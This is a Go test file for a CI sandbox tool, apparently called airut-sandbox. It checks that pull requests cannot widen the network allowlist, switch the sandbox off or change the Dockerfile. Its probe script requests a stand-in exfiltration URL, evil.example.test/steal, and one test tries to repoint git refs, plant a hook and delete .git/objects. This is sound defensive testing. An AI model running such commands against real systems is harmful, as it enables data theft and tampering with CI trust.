package sandboxcli_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airut/airut/internal/sandboxcli"
	"github.com/airut/airut/internal/testkit"
)

// The base branch's rules in these tests: an image that says "base", an
// allowlist without evil.example.test, a variable that says "base".
func baseRules(base string) map[string]string {
	return map[string]string{
		".airut/container/Dockerfile":   "FROM " + base + "\nRUN echo base > /rules-marker\n",
		".airut/network-allowlist.yaml": "domains: [allowed.example.test]\n",
		".airut/sandbox.yaml":           "env:\n  RULES: base\n",
	}
}

// pullRequest checks out a branch on top of the clone's main that commits
// files, as CI checks out a pull request; main on origin is unchanged.
func pullRequest(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	testkit.Git(t, dir, "checkout", "-q", "-b", "pr")
	files["pr-file.txt"] = "code under test\n"
	testkit.WriteFiles(t, dir, files)
	testkit.Commit(t, dir, "pull request")
}

// upstream is a TLS server the container may only reach through the proxy
// as evil.example.test; the returned flags pin the name to it.
func upstream(t *testing.T) (*testkit.EchoServer, []string) {
	t.Helper()
	ca := testkit.NewTestCA(t)
	echo := testkit.NewEchoServer(t, ca, testkit.HostIP(t), "evil.example.test")
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(caFile, ca.CertPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	return echo, []string{"--resolve", "evil.example.test=" + echo.Addr, "--upstream-ca", caFile}
}

// probe reports, from inside the container, which image and variables the
// run got, whether the pull request's code is there, and what the network
// let through: an HTTPS request to evil.example.test (through the proxy,
// or nowhere on an open network, which has no pin for the name) and a
// plain TCP connection to the upstream's address (refused in the sandbox,
// which has no route but the proxy).
func probe(echo *testkit.EchoServer) []string {
	return []string{"sh", "-c", `echo "marker=$(cat /rules-marker) env=$RULES code=$(cat pr-file.txt)"
tkhttp https://evil.example.test/steal > /tmp/response
head -1 /tmp/response | cut -d' ' -f1-2; sed -n 2p /tmp/response | cut -d, -f1
tkhttp tcp ` + echo.Addr + ` | cut -d' ' -f1-2`}
}

const blockedEvil = "STATUS 403\n" + `{"error":"blocked_by_network_allowlist"` + "\n"

// TestPullRequestCannotChangeRules: a pull request that switches the
// network sandbox off, widens the allowlist or changes the Dockerfile is
// run with none of it: the rules are main's on origin, as an actual run in
// the container shows (the image's marker, the blocked request, the
// refused connection), while the pull request's code is what runs.
func TestPullRequestCannotChangeRules(t *testing.T) {
	_, base := setup(t)
	cases := []struct {
		name string
		pr   map[string]string
	}{
		{"network sandbox off", map[string]string{".airut/sandbox.yaml": "network_sandbox: false\nenv:\n  RULES: pr\n"}},
		{"wider allowlist", map[string]string{".airut/network-allowlist.yaml": "domains: [allowed.example.test, evil.example.test]\n"}},
		{"changed Dockerfile", map[string]string{".airut/container/Dockerfile": "FROM " + base + "\nRUN echo pr > /rules-marker\n"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := repo(t, base, baseRules(base))
			pullRequest(t, dir, tc.pr)
			echo, pins := upstream(t)
			for _, env := range []string{"", "main"} { // origin/HEAD, then GitHub's base ref
				t.Setenv("GITHUB_BASE_REF", env)
				code, stdout, stderr := run(append(append([]string{"run"}, pins...), append([]string{"--"}, probe(echo)...)...)...)
				want := "marker=base env=base code=code under test\n"
				if code != 0 || !strings.HasPrefix(stdout, want+blockedEvil) || !strings.Contains(stdout, "CONNECT FAILED") {
					t.Errorf("GITHUB_BASE_REF=%q: exit %d, stdout:\n%s\nwant the base branch's image, variables and allowlist, "+
						"the network sandbox on, and the pull request's code (stderr %q)", env, code, stdout, stderr)
				}
				if strings.Contains(stderr, "WARNING") {
					t.Errorf("a run on the trusted ref warned: %q", stderr)
				}
			}
			if n := len(echo.Requests()); n != 0 {
				t.Errorf("the upstream saw %d requests; want none", n)
			}
		})
	}
}

// TestConfigRefHEAD: --config-ref HEAD takes the rules from the code under
// test, as asked, and says so; even then it does not open the network.
func TestConfigRefHEAD(t *testing.T) {
	_, base := setup(t)
	dir := repo(t, base, baseRules(base))
	pullRequest(t, dir, map[string]string{
		".airut/container/Dockerfile":   "FROM " + base + "\nRUN echo pr > /rules-marker\n",
		".airut/network-allowlist.yaml": "domains: [evil.example.test]\n",
		".airut/sandbox.yaml":           "env:\n  RULES: pr\n",
	})
	echo, pins := upstream(t)
	code, stdout, stderr := run(append(append([]string{"run", "--config-ref", "HEAD"}, pins...), append([]string{"--"}, probe(echo)...)...)...)
	if want := "marker=pr env=pr code=code under test\nSTATUS 200\n" + `{"method":"GET"` + "\n"; code != 0 || !strings.HasPrefix(stdout, want) {
		t.Errorf("exit %d stdout:\n%s\nwant the pull request's rules applied (stderr %q)", code, stdout, stderr)
	}
	if len(echo.Requests()) != 1 {
		t.Errorf("upstream saw %d requests; want the one the pull request's allowlist lets through", len(echo.Requests()))
	}
	head := testkit.Git(t, dir, "rev-parse", "HEAD")
	if want := "WARNING: the sandbox rules (.airut/) come from HEAD at commit " + head + " of " + dir +
		", the code under test (--config-ref HEAD)"; !strings.Contains(stderr, want) {
		t.Errorf("stderr %q; want the warning %q", stderr, want)
	}

	merge(t, dir, map[string]string{".airut/sandbox.yaml": "network_sandbox: false\n"})
	code, stdout, stderr = run("run", "--config-ref", "HEAD", "--", "echo", "ran")
	if code != sandboxcli.ExitUsage || stdout != "" || !strings.Contains(stderr, "network_sandbox: false in .airut/sandbox.yaml of HEAD") ||
		!strings.Contains(stderr, "is refused: it comes from the code under test") {
		t.Errorf("open network from HEAD: exit %d stdout %q stderr %q; want it refused before anything ran", code, stdout, stderr)
	}
	// The same file, merged to main, is the trusted ref's choice.
	if code, _, stderr := run("run", "--", "true"); code != 0 || !strings.Contains(stderr, "WARNING: network_sandbox is false") {
		t.Errorf("open network from main: exit %d stderr %q; want it taken, loudly", code, stderr)
	}
}

// TestNoRemoteUsesHEAD: a local repository without a remote has no other
// rules than its HEAD; they are used, with the warning, and still cannot
// open the network.
func TestNoRemoteUsesHEAD(t *testing.T) {
	_, base := setup(t)
	dir := repo(t, base, baseRules(base))
	pullRequest(t, dir, map[string]string{".airut/sandbox.yaml": "env:\n  RULES: local\n"})
	testkit.Git(t, dir, "remote", "remove", "origin")
	code, stdout, stderr := run("run", "--", "sh", "-c", "echo $RULES")
	if code != 0 || stdout != "local\n" {
		t.Errorf("exit %d stdout %q (stderr %q); want HEAD's rules", code, stdout, stderr)
	}
	if !strings.Contains(stderr, "WARNING: the sandbox rules (.airut/) come from HEAD at commit ") ||
		!strings.Contains(stderr, "the code under test (the repository has no remote)") {
		t.Errorf("stderr %q; want the warning that the rules come from the code under test", stderr)
	}
	testkit.WriteFiles(t, dir, map[string]string{".airut/sandbox.yaml": "network_sandbox: false\n"})
	testkit.Commit(t, dir, "open network")
	if code, stdout, stderr := run("run", "--", "echo", "ran"); code != sandboxcli.ExitUsage || stdout != "" ||
		!strings.Contains(stderr, "network_sandbox: false in .airut/sandbox.yaml of HEAD") {
		t.Errorf("exit %d stdout %q stderr %q; want the open network refused", code, stdout, stderr)
	}
	// A plain directory is the code under test as well.
	plain := t.TempDir()
	testkit.WriteFiles(t, plain, baseRules(base))
	t.Chdir(plain)
	if code, stdout, stderr := run("run", "--", "sh", "-c", "echo $RULES"); code != 0 || stdout != "base\n" ||
		!strings.Contains(stderr, "the directory "+plain+", the code under test (the directory is not a git repository)") {
		t.Errorf("plain directory: exit %d stdout %q stderr %q; want its files used, with the warning", code, stdout, stderr)
	}
}

// TestMissingTrustedRef: without the trusted ref in the clone, nothing
// runs (exit 125) and the one-line message gives the command that fetches
// it; it never falls back to HEAD. The command it gives works.
func TestMissingTrustedRef(t *testing.T) {
	_, base := setup(t)
	cases := []struct {
		name    string
		baseRef string
		args    []string
		prep    func(t *testing.T, dir string)
		want    string
	}{
		{"base branch not fetched", "release", nil, nil,
			"trusted ref origin/release, the pull request's base branch (GITHUB_BASE_REF) is not in the clone %s: fetch it with `git fetch origin release`"},
		{"default branch deleted", "", nil, func(t *testing.T, dir string) { testkit.Git(t, dir, "update-ref", "-d", "refs/remotes/origin/main") },
			"trusted ref origin/HEAD, the default branch is not in the clone %s: fetch it with `git fetch origin main`"},
		{"origin/HEAD not set", "", nil, func(t *testing.T, dir string) { testkit.Git(t, dir, "remote", "set-head", "origin", "-d") },
			"origin/HEAD is not set in this clone: fetch the default branch and record it (`git fetch origin BRANCH && git remote set-head origin BRANCH`)"},
		{"config ref missing", "", []string{"--config-ref", "origin/stable"}, nil,
			"trusted ref --config-ref origin/stable is not in the clone %s: fetch it with `git fetch origin stable`"},
		{"config ref not a remote branch", "", []string{"--config-ref", "stable"}, nil,
			"fetch it with `git fetch origin stable` and name it --config-ref origin/stable"},
		{"no origin", "", nil, func(t *testing.T, dir string) { testkit.Git(t, dir, "remote", "rename", "origin", "upstream") },
			"this clone has no remote named origin: name the trusted ref with --config-ref REMOTE/BRANCH"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := repo(t, base, baseRules(base))
			pullRequest(t, dir, map[string]string{".airut/sandbox.yaml": "network_sandbox: false\n"})
			t.Setenv("GITHUB_BASE_REF", tc.baseRef)
			if tc.prep != nil {
				tc.prep(t, dir)
			}
			args := append(append([]string{"run"}, tc.args...), "--", "echo", "ran")
			code, stdout, stderr := run(args...)
			want := strings.Replace(tc.want, "%s", dir, 1)
			if code != sandboxcli.ExitInfra || stdout != "" || !strings.Contains(stderr, want) ||
				strings.Count(strings.TrimSpace(stderr), "\n") != 0 {
				t.Errorf("exit %d stdout %q stderr %q; want 125, nothing run, and one line containing %q", code, stdout, stderr, want)
			}
			for _, sub := range [][]string{{"image", "hash"}, {"image", "save", t.TempDir()}} {
				if code, _, stderr := run(append(sub, tc.args...)...); code != sandboxcli.ExitInfra || !strings.Contains(stderr, want) {
					t.Errorf("%v: exit %d stderr %q; want the same error", sub, code, stderr)
				}
			}
		})
	}

	t.Run("the fetch command fixes it", func(t *testing.T) {
		dir := repo(t, base, baseRules(base))
		testkit.Git(t, dir, "update-ref", "-d", "refs/remotes/origin/main")
		if code, _, _ := run("run", "--", "true"); code != sandboxcli.ExitInfra {
			t.Fatalf("exit %d; want 125 without the ref", code)
		}
		testkit.Git(t, dir, "fetch", "-q", "origin", "main")
		if code, stdout, stderr := run("run", "--", "sh", "-c", "echo $RULES"); code != 0 || stdout != "base\n" {
			t.Errorf("after the fetch: exit %d stdout %q stderr %q", code, stdout, stderr)
		}
	})
}

// TestRelativePathFlagsReadTheTrustedRef: --config, --allowlist and
// --dockerfile name files of the trusted ref when relative, like the
// defaults, so a pull request cannot change them either; an absolute path
// is read from disk, and one inside the checkout is flagged as the code
// under test.
func TestRelativePathFlagsReadTheTrustedRef(t *testing.T) {
	_, base := setup(t)
	files := map[string]string{
		"ci/sandbox.yaml": "env:\n  RULES: ci-base\n",
		"ci/allow.yaml":   "domains: [allowed.example.test]\n",
		"ci/Dockerfile":   "FROM " + base + "\nRUN echo ci-base > /rules-marker\n",
	}
	for k, v := range baseRules(base) {
		files[k] = v
	}
	dir := repo(t, base, files)
	pullRequest(t, dir, map[string]string{
		"ci/sandbox.yaml": "env:\n  RULES: ci-pr\n",
		"ci/allow.yaml":   "domains: [evil.example.test]\n",
		"ci/Dockerfile":   "FROM " + base + "\nRUN echo ci-pr > /rules-marker\n",
	})
	echo, pins := upstream(t)
	flags := []string{"--config", "ci/sandbox.yaml", "--allowlist", "ci/allow.yaml", "--dockerfile", "ci/Dockerfile"}
	code, stdout, stderr := run(append(append(append([]string{"run"}, flags...), pins...), append([]string{"--"}, probe(echo)...)...)...)
	if want := "marker=ci-base env=ci-base code=code under test\n" + blockedEvil; code != 0 || !strings.HasPrefix(stdout, want) {
		t.Errorf("exit %d stdout:\n%s\nwant the trusted ref's ci/ files (stderr %q)", code, stdout, stderr)
	}

	code, stdout, stderr = run("run", "--config", filepath.Join(dir, "ci/sandbox.yaml"), "--", "sh", "-c", "echo $RULES")
	if code != 0 || stdout != "ci-pr\n" || !strings.Contains(stderr, "WARNING: --config "+filepath.Join(dir, "ci/sandbox.yaml")+
		" is a file of the checkout under test") {
		t.Errorf("absolute path in the checkout: exit %d stdout %q stderr %q; want it read, with the warning", code, stdout, stderr)
	}
	outside := filepath.Join(t.TempDir(), "sandbox.yaml")
	if err := os.WriteFile(outside, []byte("network_sandbox: false\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := run("run", "--config", outside, "--", "true"); code != 0 || !strings.Contains(stderr, "WARNING: network_sandbox is false") ||
		strings.Contains(stderr, "checkout under test") {
		t.Errorf("operator's file outside the checkout: exit %d stderr %q; want it taken as given", code, stderr)
	}
	if err := os.WriteFile(filepath.Join(dir, "open.yaml"), []byte("network_sandbox: false\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := run("run", "--config", filepath.Join(dir, "open.yaml"), "--", "true"); code != sandboxcli.ExitUsage ||
		!strings.Contains(stderr, "is refused: it comes from the code under test") {
		t.Errorf("open network from a file of the checkout: exit %d stderr %q; want it refused", code, stderr)
	}
	if code, _, stderr := run("run", "--config", "../x.yaml", "--", "true"); code != sandboxcli.ExitUsage ||
		!strings.Contains(stderr, "--config ../x.yaml: outside the repository") {
		t.Errorf("path outside the repository: exit %d stderr %q", code, stderr)
	}
}

// TestCommandCannotMoveTheTrustedRef: the repository's .git is read-only
// in the container, so a command cannot repoint origin/main (or plant a
// hook or a replace ref) for the next airut-sandbox run on this checkout,
// while the working tree stays writable.
func TestCommandCannotMoveTheTrustedRef(t *testing.T) {
	_, base := setup(t)
	dir := repo(t, base, baseRules(base))
	pullRequest(t, dir, map[string]string{".airut/sandbox.yaml": "env:\n  RULES: pr\n"})
	pr := testkit.Git(t, dir, "rev-parse", "HEAD")
	script := `mkdir -p .git/refs/remotes/origin 2>/dev/null; echo ` + pr + ` > .git/refs/remotes/origin/main 2>/dev/null && echo ref-moved
echo '#!/bin/sh' > .git/hooks/post-checkout 2>/dev/null && echo hook-planted
rm -rf .git/objects 2>/dev/null; test -d .git/objects && echo objects-kept
echo out > built.txt && echo tree-writable`
	code, stdout, stderr := run("run", "--", "sh", "-c", script)
	if code != 0 || stdout != "objects-kept\ntree-writable\n" {
		t.Errorf("exit %d stdout %q stderr %q; want .git untouched and the tree writable", code, stdout, stderr)
	}
	if got := testkit.Git(t, dir, "rev-parse", "origin/main"); got == pr {
		t.Errorf("origin/main now points at the pull request")
	}
	if code, stdout, _ := run("run", "--", "sh", "-c", "echo $RULES"); code != 0 || stdout != "base\n" {
		t.Errorf("next run: exit %d stdout %q; want the base rules still", code, stdout)
	}
	// A local branch named like the remote one does not stand in for it.
	testkit.Git(t, dir, "branch", "origin/main", pr)
	if code, stdout, _ := run("run", "--config-ref", "origin/main", "--", "sh", "-c", "echo $RULES"); code != 0 || stdout != "base\n" {
		t.Errorf("--config-ref origin/main beside a branch origin/main: exit %d stdout %q; want the remote's rules", code, stdout)
	}
	// A replace ref planted some other way is ignored when the rules are read.
	testkit.Git(t, dir, "replace", testkit.Git(t, dir, "rev-parse", "refs/remotes/origin/main"), pr)
	if code, stdout, _ := run("run", "--", "sh", "-c", "echo $RULES"); code != 0 || stdout != "base\n" {
		t.Errorf("with a replace ref: exit %d stdout %q; want the base rules", code, stdout)
	}
}

// TestUnreadableRepositoryFailsClosed: a repository git refuses to read
// (owned by another user) is an error, never taken for a plain directory
// whose working files would then be the rules.
func TestUnreadableRepositoryFailsClosed(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to hand the repository to another user")
	}
	_, base := setup(t)
	dir := repo(t, base, baseRules(base))
	t.Setenv("HOME", t.TempDir()) // no safe.directory of the host's
	if err := os.Chown(dir, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := run("run", "--", "echo", "ran")
	if code != sandboxcli.ExitInfra || stdout != "" || !strings.Contains(stderr, "find the git repository of "+dir) ||
		!strings.Contains(stderr, "dubious ownership") {
		t.Errorf("exit %d stdout %q stderr %q; want 125 and git's refusal", code, stdout, stderr)
	}
}
